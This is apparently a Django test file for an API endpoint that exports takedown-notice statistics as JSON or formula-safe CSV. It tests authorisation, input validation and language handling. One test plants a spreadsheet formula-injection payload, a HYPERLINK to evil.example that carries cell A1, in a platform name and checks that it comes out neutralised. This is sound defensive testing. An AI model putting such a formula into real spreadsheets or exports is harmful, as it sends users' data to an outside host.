# SPDX-License-Identifier: EUPL-1.2
"""GET /api/v1/statistieken: the figures of ``flagdesk statistics`` over the API, as JSON or
as formula-safe CSV.

The attacks first: a partner token, no year, a year out of range or not a number, a format
that is not offered, a platform whose name is a spreadsheet formula. Then the same figures as
the command, in both formats.
"""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from flagdesk.accounts import service as accounts
from flagdesk.accounts.models import User
from flagdesk.elections.models import Election
from flagdesk.notices.tests.conftest import SEED_POST, approved_case
from flagdesk.platforms.models import Platform
from flagdesk.reports import statistics
from flagdesk.reports.tests.test_statistics import illegal, sent

PROBLEM = "application/problem+json"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"X")'


def token_for(user: User) -> Client:
    return Client(HTTP_AUTHORIZATION=f"Bearer {accounts.issue_token(name='t', user=user)[1]}")


def is_problem(response: Any, status: int) -> bool:
    return response.status_code == status and response["Content-Type"] == PROBLEM


def command(*args: str) -> str:
    out = io.StringIO()
    call_command("statistics", *args, stdout=out)
    return out.getvalue()


# ------------------------------------------------------------------------- attacks


def test_a_partner_token_gets_no_statistics(nos_token: str) -> None:
    partner = Client(HTTP_AUTHORIZATION=f"Bearer {nos_token}")
    assert is_problem(partner.get("/api/v1/statistieken?jaar=2023"), 403)
    assert is_problem(Client().get("/api/v1/statistieken?jaar=2023"), 401)


def test_a_year_out_of_range_or_odd_input_is_invalid(carol: User) -> None:
    client = token_for(carol)
    next_year = timezone.localdate().year + 1
    for query in [
        "",
        "jaar=",
        "jaar=1999",
        f"jaar={next_year + 1}",
        "jaar=9999",
        "jaar=-2023",
        "jaar=2023.5",
        "jaar=twee",
        "jaar=99999999999999999999",
        "jaar=2023&formaat=xlsx",
        "jaar=2023&formaat=pdf",
        "jaar=2023&escalaties=misschien",
    ]:
        response = client.get(f"/api/v1/statistieken?{query}")
        assert is_problem(response, 400), query
        assert response.json()["invalid_params"], query
    assert client.get(f"/api/v1/statistieken?jaar={next_year}").status_code == 200


def test_the_year_refusal_speaks_the_negotiated_language(carol: User) -> None:
    client = token_for(carol)
    dutch = client.get("/api/v1/statistieken?jaar=1999").json()["invalid_params"][0]
    english = client.get("/api/v1/statistieken?jaar=1999", HTTP_ACCEPT_LANGUAGE="en").json()
    assert dutch["name"] == "jaar" and dutch["reason"].startswith("Kies een jaar van 2000")
    assert english["invalid_params"][0]["reason"].startswith("Choose a year from 2000")


def test_a_formula_in_a_platform_name_comes_out_neutralised_in_the_csv(
    tk2023: Election, alice: User, bob: User, x_channel: Platform, outbox: Any
) -> None:
    # Platform names are typed by administrators and shown in spreadsheets by whoever
    # opens the export: a cell that starts with "=" must not run.
    Platform.objects.filter(slug="x").update(name=FORMULA)
    case = approved_case(tk2023, alice, bob, SEED_POST, legal_basis=illegal("scams_and_fraud"))
    sent(case, alice)
    year = timezone.localtime().year
    response = token_for(alice).get(f"/api/v1/statistieken?jaar={year}&formaat=csv")
    assert response.status_code == 200
    [header, row] = list(csv.reader(io.StringIO(response.content.decode())))
    assert header == list(statistics.COLUMNS)
    assert row[1] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "@")) for cell in row)


# --------------------------------------------------------------------- the figures


def test_the_figures_are_the_commands_in_both_formats(
    tk2023: Election, alice: User, bob: User, carol: User, x_channel: Platform, outbox: Any
) -> None:
    for url, content_type in (
        (SEED_POST, "civic_discourse_or_elections"),
        ("https://x.com/kiezer2023/status/1727365033333333333", "scams_and_fraud"),
    ):
        sent(approved_case(tk2023, alice, bob, url, legal_basis=illegal(content_type)), alice)
    sent(approved_case(tk2023, alice, bob, "https://x.com/a/status/1727365044444444444"), alice)
    year = str(timezone.localtime().year)
    client = token_for(carol)  # any staff member, as the dashboard's figures

    csv_answer = client.get(f"/api/v1/statistieken?jaar={year}&formaat=csv")
    assert csv_answer.status_code == 200
    assert csv_answer["Content-Type"] == "text/csv; charset=utf-8"
    assert csv_answer["Content-Disposition"] == f'attachment; filename="statistics-{year}.csv"'
    assert csv_answer["API-Version"] and "no-store" in csv_answer["Cache-Control"]
    assert csv_answer.content.decode() == command(year)

    escalations = client.get(f"/api/v1/statistieken?jaar={year}&formaat=csv&escalaties=true")
    assert escalations.content.decode() == command(year, "--escalations")
    assert "escalations" in escalations["Content-Disposition"]

    answer = client.get(f"/api/v1/statistieken?jaar={year}", HTTP_ACCEPT="text/csv")
    assert answer.status_code == 200 and answer["Content-Type"] == "application/json"
    assert answer["Content-Disposition"] == f'attachment; filename="statistics-{year}.json"'
    document, expected = answer.json(), json.loads(command(year, "--format", "json"))
    assert document.pop("generated_at") and expected.pop("generated_at")
    assert document == expected  # Dutch labels, as the command writes them
    assert [r["notices"] for r in document["rows"]] == [1, 1]
    assert [r["notices"] for r in document["terms_escalations"]] == [1]


def test_the_json_labels_follow_the_negotiated_language(carol: User) -> None:
    client = token_for(carol)
    dutch = client.get("/api/v1/statistieken?jaar=2023").json()
    english = client.get("/api/v1/statistieken?jaar=2023", HTTP_ACCEPT_LANGUAGE="en").json()
    assert dutch["rows"] == english["rows"] == []
    assert english["categories"]["misinformation"] != dutch["categories"]["misinformation"]
